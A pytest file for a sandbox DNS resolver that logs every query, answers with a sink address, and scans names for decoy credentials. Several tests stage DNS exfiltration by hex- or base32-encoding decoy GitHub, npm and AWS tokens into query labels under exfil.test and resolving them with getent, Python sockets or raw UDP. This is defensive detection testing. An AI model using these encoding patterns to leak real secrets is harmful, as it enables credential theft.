"""The logging resolver: every name logged and scanned, every name answered with the sink."""

from __future__ import annotations

import base64
import os
import secrets
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import dns.flags
import dns.message
import pytest

from cujo_action.find.decoys import Decoy, make_decoys
from cujo_action.net.dns.record import NameScanner, dns_record, without_search
from cujo_action.net.dns.resolver import (
    Resolver,
    ResolverConfig,
    ResolverHandle,
    ResolverStart,
    spawn_resolver,
    start_resolver,
)
from cujo_action.net.dns.wire import (
    RCODE_FORMERR,
    RCODE_NOTIMP,
    STUB_PAYLOAD,
    DnsFormatError,
    answer_for,
    build_response,
    cached_ttl,
    error_response,
    parse_query,
)
from cujo_action.net.egress import parse_egress_log
from cujo_action.net.helperconfig import DecoySpec
from cujo_action.net.namebook import SINK_ADDRESS
from cujo_action.net.ns import netns
from cujo_action.net.ns.netns import NetNamespace
from cujo_action.net.ns.nftguard import Redirect
from cujo_action.schema import REGISTRY_HOSTS

REASON = netns.unavailable()
LABEL = "detonation/import"


def query_bytes(name: str, qtype: int = 1, ident: int = 0x1234, flags: int = 0x0100) -> bytes:
    """Return a DNS query message for ``name``."""
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\0"
    return struct.pack("!HHHHHH", ident, flags, 1, 0, 0, 0) + qname + struct.pack("!HH", qtype, 1)


def split_labels(text: str, size: int = 60) -> str:
    """Return ``text`` cut into DNS labels no longer than ``size``."""
    return ".".join(text[i : i + size] for i in range(0, len(text), size))


DECOYS = make_decoys()


def decoy(name: str) -> Decoy:
    return next(d for d in DECOYS if d.name == name)


# --------------------------------------------------------------------------- wire format


def test_parse_and_answer_an_a_query_with_the_sink() -> None:
    query = parse_query(query_bytes("Collector.Exfil.test", ident=0xBEEF))
    assert (query.name, query.qtype, query.qclass, query.ident) == (
        "Collector.Exfil.test",
        1,
        1,
        0xBEEF,
    )
    reply = build_response(query, *answer_for(query, "10.200.0.1"))
    ident, flags, qd, an, ns, ar = struct.unpack("!HHHHHH", reply[:12])
    assert (ident, qd, an, ns, ar) == (0xBEEF, 1, 1, 0, 0)
    assert flags & 0x8180 == 0x8180  # QR, RD copied, RA
    assert flags & 0xF == 0
    assert reply[12 : 12 + len(query.question)] == query.question
    assert reply.endswith(socket.inet_aton("10.200.0.1"))
    assert struct.unpack("!HHHIH", reply[-16:-4]) == (0xC00C, 1, 1, 1, 4)


def test_aaaa_and_other_types_get_an_empty_answer_and_other_opcodes_notimp() -> None:
    for qtype in (28, 16, 15):
        query = parse_query(query_bytes("a.test", qtype))
        answer, rcode = answer_for(query, SINK_ADDRESS)
        assert (answer, rcode) == (None, 0)
        assert struct.unpack("!H", build_response(query, answer, rcode)[6:8]) == (0,)
    status = parse_query(query_bytes("a.test", flags=0x1000))  # opcode 2, STATUS
    assert answer_for(status, SINK_ADDRESS) == (None, RCODE_NOTIMP)
    assert build_response(status, None, RCODE_NOTIMP)[3] & 0xF == RCODE_NOTIMP


def test_an_answer_reads_as_systemd_resolveds_stub_gives_it() -> None:
    asked = dns.message.make_query("pypi.org", "A", use_edns=0, payload=1200)
    asked.flags |= dns.flags.AD | dns.flags.CD  # trust-ad asks for AD; CD is echoed
    query = parse_query(asked.to_wire())
    assert (query.edns, query.dnssec_ok) == (0, False)
    reply = dns.message.from_wire(build_response(query, "198.18.0.9", ttl=42))
    assert reply.flags & (dns.flags.QR | dns.flags.RD | dns.flags.RA | dns.flags.CD) == (
        dns.flags.QR | dns.flags.RD | dns.flags.RA | dns.flags.CD
    )
    assert not reply.flags & (dns.flags.AA | dns.flags.AD)  # nothing validated
    assert (reply.edns, reply.payload) == (0, STUB_PAYLOAD) == (0, 65494)
    assert reply.answer[0].ttl == 42
    # DO is echoed only where resolved would (it validates nothing): with CD.
    do = dns.message.make_query("a.test", "A", want_dnssec=True)
    do.flags &= ~dns.flags.CD
    assert not dns.message.from_wire(build_response(parse_query(do.to_wire()), None)).ednsflags
    do.flags |= dns.flags.CD
    echoed = dns.message.from_wire(build_response(parse_query(do.to_wire()), None))
    assert echoed.ednsflags & dns.flags.DO
    # No OPT record unless the query had one.
    plain = dns.message.from_wire(build_response(parse_query(query_bytes("a.test")), None))
    assert plain.edns == -1


def test_ttls_count_down_as_a_caches_and_start_anew() -> None:
    key = b"run key"
    first = cached_ttl("github.com", 1000.0, key)
    assert 1 <= first <= 3600
    assert cached_ttl("GitHub.com", 1000.0, key) == first  # names are case-blind
    later = cached_ttl("github.com", 1000.0 + first - 1, key)
    assert later == 1  # a second before it runs out
    anew = cached_ttl("github.com", 1000.0 + first, key)
    assert anew in (60, 300, 600, 3600)  # fetched again: the whole TTL
    # Another run's key gives other phases (and names their own TTLs).
    ttls = {cached_ttl(f"h{i}.test", 1000.0, key) for i in range(40)}
    assert len(ttls) > 10
    assert [cached_ttl(f"h{i}.test", 1000.0, b"other") for i in range(40)] != [
        cached_ttl(f"h{i}.test", 1000.0, key) for i in range(40)
    ]


def two_questions() -> bytes:
    one = query_bytes("a.test")[12:]
    return struct.pack("!HHHHHH", 1, 0, 2, 0, 0, 0) + one + one


# Parsed by dnspython: the messages are its own; the resolver refuses what it must.
@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"\x00" * 5, "shorter than a DNS header"),
        (query_bytes("a.test", flags=0x8100), "a response"),
        (two_questions(), "2 questions"),
        (struct.pack("!HHHHHH", 1, 0, 2, 0, 0, 0), "FormError"),
        (struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + b"\xc0\x0c", "BadPointer"),
        (struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + b"\x05ab", "FormError"),
        (query_bytes("a.test")[:-2], "FormError"),
        (
            struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + (b"\x3f" + b"a" * 63) * 5 + b"\0\0\1\0\1",
            "NameTooLong",
        ),
    ],
)
def test_malformed_messages_are_rejected(data: bytes, why: str) -> None:
    with pytest.raises(DnsFormatError, match=why):
        parse_query(data)


def test_error_response_echoes_the_id_when_the_header_parses() -> None:
    reply = error_response(struct.pack("!HHHHHH", 7, 0x0100, 2, 0, 0, 0), RCODE_FORMERR)
    assert reply is not None
    assert struct.unpack("!HHHHHH", reply) == (7, 0x8000 | 0x0100 | 0x0080 | 1, 0, 0, 0, 0)
    assert error_response(b"\x00\x01", RCODE_FORMERR) is None


# --------------------------------------------------------------------------- decoys in names


@pytest.mark.parametrize(
    ("encode", "where"),
    [
        (lambda v: v.encode().hex(), "dns:hex"),
        (lambda v: v.encode().hex().upper(), "dns:hex"),
        (lambda v: base64.b32encode(v.encode()).decode().rstrip("=").lower(), "dns:base32"),
        (lambda v: base64.b32hexencode(v.encode()).decode().rstrip("="), "dns:base32"),
        (lambda v: "xyz" + base64.b32encode(b"ab" + v.encode()).decode().lower(), "dns:base32"),
    ],
)
def test_a_decoy_split_over_labels_is_found(encode: Callable[[str], str], where: str) -> None:
    scanner = NameScanner(DECOYS)
    value = decoy("GITHUB_TOKEN").value
    name = split_labels(encode(value), 50) + ".exfil.test"
    labels = [p.encode() for p in name.split(".")]
    assert scanner.scan(labels) == (["GITHUB_TOKEN"], [where])


def test_a_plain_decoy_in_one_label_and_case_scrambled_hex_are_found() -> None:
    scanner = NameScanner(DECOYS)
    token = decoy("NPM_TOKEN").value
    assert scanner.scan([token.encode(), b"exfil", b"test"]) == (["NPM_TOKEN"], ["dns:plain"])
    scrambled = "".join(
        c.upper() if i % 2 else c
        for i, c in enumerate(decoy("AWS_ACCESS_KEY_ID").value.encode().hex())
    )
    found = scanner.scan([scrambled.encode(), b"test"])
    assert found == (["AWS_ACCESS_KEY_ID"], ["dns:hex"])
    assert scanner.scan([b"pypi", b"org"]) == ([], [])


def test_dns_record_names_the_host_the_type_and_what_the_proxy_does() -> None:
    scanner = NameScanner(DECOYS)
    hex_name = split_labels(decoy("GITHUB_TOKEN").value.encode().hex()) + ".exfil.test"
    record = dns_record(
        ts=1.0,
        label=LABEL,
        query=parse_query(query_bytes(hex_name + ".")),
        size=99,
        allow_hosts=REGISTRY_HOSTS,
        scanner=scanner,
    )
    assert (record["label"], record["method"], record["port"]) == (LABEL, "DNS", 53)
    assert (record["host"], record["url"]) == (hex_name, f"dns:{hex_name}?type=A")
    assert (record["action"], record["bytes_out"]) == ("sunk", 99)
    assert (record["decoy_seen"], record["decoy_where"]) == (["GITHUB_TOKEN"], ["dns:hex"])
    pypi = dns_record(
        ts=1.0,
        label=LABEL,
        query=parse_query(query_bytes("PyPI.org", 28)),
        size=30,
        allow_hosts=REGISTRY_HOSTS,
        scanner=scanner,
    )
    assert (pypi["host"], pypi["action"], pypi["url"]) == (
        "pypi.org",
        "forwarded",
        "dns:PyPI.org?type=AAAA",
    )
    raw = b"garbage " + decoy("NPM_TOKEN").value.encode()
    bad = dns_record(
        ts=1.0, label=LABEL, query=None, size=len(raw), allow_hosts=(), scanner=scanner, raw=raw
    )
    assert (bad["host"], bad["url"], bad["decoy_seen"]) == ("", "dns:?malformed", ["NPM_TOKEN"])


VM_ZONE = "k0wkaguidnqrh0udm0ucnnwuiq.bx.internal.cloudapp.net"


def test_a_name_with_the_search_domain_appended_is_logged_as_the_host_it_looks_up() -> None:
    scanner = NameScanner(DECOYS)
    token = decoy("NPM_TOKEN").value.encode().hex()[:60]
    asked = parse_query(query_bytes(f"{token}.exfil.test.{VM_ZONE.upper()}", 28))
    assert without_search(asked, (VM_ZONE,)) is not None
    assert without_search(asked, ("other.test",)) is None
    # The zone alone is no name with the domain appended.
    assert without_search(parse_query(query_bytes(VM_ZONE)), (VM_ZONE,)) is None
    record = dns_record(
        ts=1.0, label=LABEL, query=asked, size=80, allow_hosts=REGISTRY_HOSTS,
        scanner=scanner, search=(VM_ZONE,),
    )  # fmt: skip
    assert record["host"] == f"{token}.exfil.test"
    assert record["url"] == f"dns:{token}.exfil.test.{VM_ZONE.upper()}?type=AAAA"
    assert (record["decoy_seen"], record["decoy_where"]) == (["NPM_TOKEN"], ["dns:hex"])
    pypi = dns_record(
        ts=1.0, label=LABEL, query=parse_query(query_bytes(f"pypi.org.{VM_ZONE}", 28)),
        size=60, allow_hosts=REGISTRY_HOSTS, scanner=scanner, search=(VM_ZONE,),
    )  # fmt: skip
    assert (pypi["host"], pypi["action"]) == ("pypi.org", "forwarded")


def test_the_vms_own_zone_answers_nxdomain_and_a_hosts_search_domain_resolves(
    tmp_path: Path,
) -> None:
    config = ResolverConfig(
        labels=[LABEL],
        log_path=tmp_path / "egress.jsonl",
        ready_path=tmp_path / "ready.json",
        search=[VM_ZONE, "corp.example"],
    )
    resolver = Resolver(config)
    try:
        retry = resolver.handle(LABEL, query_bytes(f"pypi.org.{VM_ZONE}", 28, ident=3))
        single = resolver.handle(LABEL, query_bytes(f"db.{VM_ZONE}", 1, ident=4))
        corp = resolver.handle(LABEL, query_bytes("git.corp.example", 1, ident=5))
        plain = resolver.handle(LABEL, query_bytes("db", 1, ident=6))
    finally:
        resolver.close()
    assert retry is not None
    assert single is not None
    assert corp is not None
    assert plain is not None
    assert retry[3] & 0xF == single[3] & 0xF == 3  # NXDOMAIN: glibc then asks as it is
    assert struct.unpack("!H", single[6:8]) == (0,)
    assert corp.endswith(socket.inet_aton(SINK_ADDRESS))  # a host's own domain: a name
    assert plain.endswith(socket.inet_aton(SINK_ADDRESS))
    hosts = [r["host"] for r in parse_egress_log(config.log_path.read_bytes()).records]
    assert hosts == ["pypi.org", "db", "git", "db"]


# --------------------------------------------------------------------------- the process


@dataclass
class Dns:
    handle: ResolverHandle
    log: Path

    def records(self) -> list[dict[str, Any]]:
        return parse_egress_log(self.log.read_bytes()).records

    def wait(self, pred: Callable[[dict[str, Any]], bool], timeout: float = 10) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while True:
            for record in self.records():
                if pred(record):
                    return record
            assert self.handle.alive(), self.handle.stderr_path.read_text()
            assert time.monotonic() < deadline, self.log.read_text()
            time.sleep(0.02)


@pytest.fixture(scope="module")
def resolver(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dns]:
    tmp = tmp_path_factory.mktemp("dns")
    config = ResolverConfig(
        labels=[LABEL, "smoke/smoke"],
        decoys=[DecoySpec(name=d.name, value=d.value) for d in DECOYS],
        log_path=tmp / "egress.jsonl",
        ready_path=tmp / "ready.json",
    )
    handle = start_resolver(config, tmp / "work")
    try:
        yield Dns(handle, config.log_path)
    finally:
        assert handle.stop() == 0


def _ask_udp(port: int, message: bytes) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(message, ("127.0.0.1", port))
        return s.recv(4096)


def test_resolver_answers_and_logs_udp_and_tcp_by_port_label(resolver: Dns) -> None:
    name = f"q{secrets.token_hex(4)}.exfil.test"
    reply = _ask_udp(resolver.handle.ports[LABEL], query_bytes(name))
    assert reply.endswith(socket.inet_aton(SINK_ADDRESS))
    record = resolver.wait(lambda r: r["host"] == name)
    assert (record["label"], record["action"]) == (LABEL, "sunk")
    tcp_name = f"t{secrets.token_hex(4)}.exfil.test"
    message = query_bytes(tcp_name, ident=77)
    with socket.create_connection(("127.0.0.1", resolver.handle.ports["smoke/smoke"]), 5) as c:
        c.sendall(struct.pack("!H", len(message)) + message)
        (length,) = struct.unpack("!H", c.recv(2))
        data = b""
        while len(data) < length:
            data += c.recv(length - len(data))
    assert struct.unpack("!H", data[:2]) == (77,)
    assert data.endswith(socket.inet_aton(SINK_ADDRESS))
    assert resolver.wait(lambda r: r["host"] == tcp_name)["label"] == "smoke/smoke"


def test_resolver_logs_a_malformed_packet_and_answers_formerr(resolver: Dns) -> None:
    secret = decoy("AWS_SECRET_ACCESS_KEY").value.encode()
    reply = _ask_udp(
        resolver.handle.ports[LABEL], struct.pack("!HHHHHH", 9, 0, 1, 0, 0, 0) + b"\xc0" + secret
    )
    assert reply[3] & 0xF == RCODE_FORMERR
    record = resolver.wait(lambda r: r["url"] == "dns:?malformed")
    assert record["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]


# --------------------------------------------------------------------------- inside a namespace


@pytest.fixture(scope="module")
def sandbox(resolver: Dns, tmp_path_factory: pytest.TempPathFactory) -> Iterator[NetNamespace]:
    if REASON is not None:
        pytest.skip(f"namespaces unavailable: {REASON}")
    # No proxy here: TCP goes to port 9 on loopback, where nothing listens.
    redirect = Redirect(transparent_port=9, dns_port=resolver.handle.ports[LABEL])
    with NetNamespace(redirect, state_dir=tmp_path_factory.mktemp("state")) as ns:
        yield ns


def _in(ns: NetNamespace, argv: list[str]) -> subprocess.CompletedProcess[str]:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    return subprocess.run(ns.run_in(argv), capture_output=True, text=True, timeout=20, env=env)


@pytest.mark.root
@pytest.mark.skipif(REASON is not None, reason=f"namespaces unavailable: {REASON}")
def test_dns_exfiltration_with_getent_names_the_decoy(resolver: Dns, sandbox: NetNamespace) -> None:
    token = decoy("GITHUB_TOKEN").value
    name = split_labels(token.encode().hex()) + f".{secrets.token_hex(3)}.exfil.test"
    done = _in(sandbox, ["getent", "hosts", name])
    assert done.returncode == 0, done.stderr
    assert done.stdout.split()[0] == SINK_ADDRESS
    record = resolver.wait(lambda r: r["host"] == name and r["url"].endswith("type=A"))
    assert record["label"] == LABEL
    assert (record["decoy_seen"], record["decoy_where"]) == (["GITHUB_TOKEN"], ["dns:hex"])


@pytest.mark.root
@pytest.mark.skipif(REASON is not None, reason=f"namespaces unavailable: {REASON}")
def test_dns_exfiltration_in_base32_from_python_and_to_any_server(
    resolver: Dns, sandbox: NetNamespace
) -> None:
    value = decoy("AWS_SECRET_ACCESS_KEY").value
    chunk = base64.b32encode(value.encode()).decode().rstrip("=").lower()
    name = split_labels(chunk) + ".b32.exfil.test"
    done = _in(
        sandbox, [sys.executable, "-c", f"import socket; print(socket.gethostbyname({name!r}))"]
    )
    assert done.stdout.strip() == SINK_ADDRESS, done.stderr
    assert resolver.wait(lambda r: r["host"] == name)["decoy_where"] == ["dns:base32"]
    # A query sent straight to a public resolver's address lands here all the same.
    direct = query_bytes("direct.exfil.test", ident=5)
    code = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
        f"s.sendto({direct!r}, ('192.0.2.53', 53)); print(s.recv(512).hex())\n"
    )
    done = _in(sandbox, [sys.executable, "-c", code])
    assert done.returncode == 0, done.stderr
    assert bytes.fromhex(done.stdout.strip()).endswith(socket.inet_aton(SINK_ADDRESS))
    resolver.wait(lambda r: r["host"] == "direct.exfil.test")


def test_query_dataclass_name_keeps_odd_bytes_visible() -> None:
    query = parse_query(struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + b"\2a\xff\4test\0\0\1\0\1")
    assert query.labels == (b"a\xff", b"test")
    assert query.name == "a\\xff.test"


def test_a_resolver_started_before_its_config_answers_as_configured(tmp_path: Path) -> None:
    """Started while prepare clones, set going once arm writes its config."""
    warm = spawn_resolver(tmp_path / "work")
    config = ResolverConfig(
        labels=[LABEL],
        decoys=[DecoySpec(name=d.name, value=d.value) for d in DECOYS],
        log_path=tmp_path / "egress.jsonl",
        ready_path=tmp_path / "ready.json",
    )
    handle = ResolverStart(config, tmp_path / "work", warm=warm).result()
    try:
        assert handle.process is warm.process
        name = f"w{secrets.token_hex(4)}.exfil.test"
        assert _ask_udp(handle.ports[LABEL], query_bytes(name)).endswith(
            socket.inet_aton(SINK_ADDRESS)
        )
        record = Dns(handle, config.log_path).wait(lambda r: r["host"] == name)
        assert (record["label"], record["action"]) == (LABEL, "sunk")
    finally:
        assert handle.stop() == 0
